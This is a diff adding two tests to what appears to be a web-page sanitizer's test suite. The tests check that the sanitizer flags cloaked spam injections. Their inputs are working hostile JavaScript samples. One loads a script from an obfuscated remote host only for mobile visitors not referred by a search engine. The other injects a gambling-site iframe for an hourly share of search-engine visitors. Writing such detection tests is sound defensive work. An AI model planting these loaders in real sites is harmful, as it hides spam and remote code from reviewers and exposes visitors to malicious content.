@@ -132,3 +132,20 @@ def test_hostile_scripts_stay_within_the_budget_and_do_not_blind_the_sandbox():
     a = clean_page(page(head="".join(f"<script>{c}</script>" for c in (loop, alloc, loader))), url=URL)
     assert time.monotonic() - start < 20 * PAGE_SECONDS
     assert "js_redirect" in kinds(a)
+
+
+def test_code_loaded_only_for_phones_a_search_engine_did_not_send():
+    code = ("var p=navigator.platform,os={win:p.indexOf('Win')==0,mac:p.indexOf('Mac')==0,lin:p.indexOf('Linux')==0};"
+            "var se=/\\.(baidu|sogou|so|bing)\\.com\\//;if(!os.win&&!os.mac&&!os.lin&&!se.test(document.referrer)){"
+            "var s=document.createElement('script');s.src=['https://','cdn.','qp-load8','.top/k/1'].join('');"
+            "document.body.appendChild(s)}")
+    a = cleaned(code)
+    assert {"js_cloak", "spam_script"} <= kinds(a)
+
+
+def test_loader_that_acts_on_a_share_of_visits_by_the_hour():
+    code = ("var p=[.1,.1,.1,.1,.1,.1,.2,.3,.5,.5,.5,.4,.6,.6,.5,.5,.5,.6,.8,.9,.9,.9,.7,.3];"
+            "if(/baidu|sogou/.test(document.referrer)&&Math.random()<p[new Date().getHours()]){"
+            "var f=document.createElement('iframe');f.src='https://www.'+'lucky-hall88.vip/';document.body.appendChild(f)}")
+    a = cleaned(code)
+    assert {"js_cloak", "spam_script"} <= kinds(a)
